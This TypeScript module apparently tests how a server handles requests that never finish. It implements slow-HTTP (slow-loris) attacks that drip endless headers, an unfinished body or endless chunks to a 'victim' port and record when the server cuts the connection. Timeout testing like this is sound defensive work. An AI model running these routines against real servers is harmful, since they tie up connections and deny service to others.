import { openConnection } from './connection.ts'
import { headOf, type Victim } from './requests.ts'

/** How a request without an end ended. */
export interface CutOff {
  /** Of the answer; 0 where there was none. */
  readonly status: number
  readonly afterMs: number
}

const dripMs = 500

/** Sends a little now and then and never comes to the end of the headers, until the server has had enough. */
export function endlessHeaders(victim: Victim): Promise<CutOff> {
  return drip(victim, headOf(victim), 'X-Padding: x\r\n')
}

/** The same with a body of which the end never comes. */
export function endlessBody(victim: Victim): Promise<CutOff> {
  return drip(victim, `${headOf(victim)}Content-Length: 60000\r\n\r\n`, ' ')
}

/** The same with a body in chunks. */
export function endlessChunks(victim: Victim): Promise<CutOff> {
  return drip(victim, `${headOf(victim)}Transfer-Encoding: chunked\r\n\r\n`, '1\r\n \r\n')
}

async function drip({ port }: Victim, start: string, drop: string): Promise<CutOff> {
  const begun = performance.now()
  const connection = await openConnection(port)
  connection.send(start)
  const dripping = setInterval(() => connection.send(drop), dripMs)
  await connection.closed
  clearInterval(dripping)
  return { status: await connection.status, afterMs: performance.now() - begun }
}
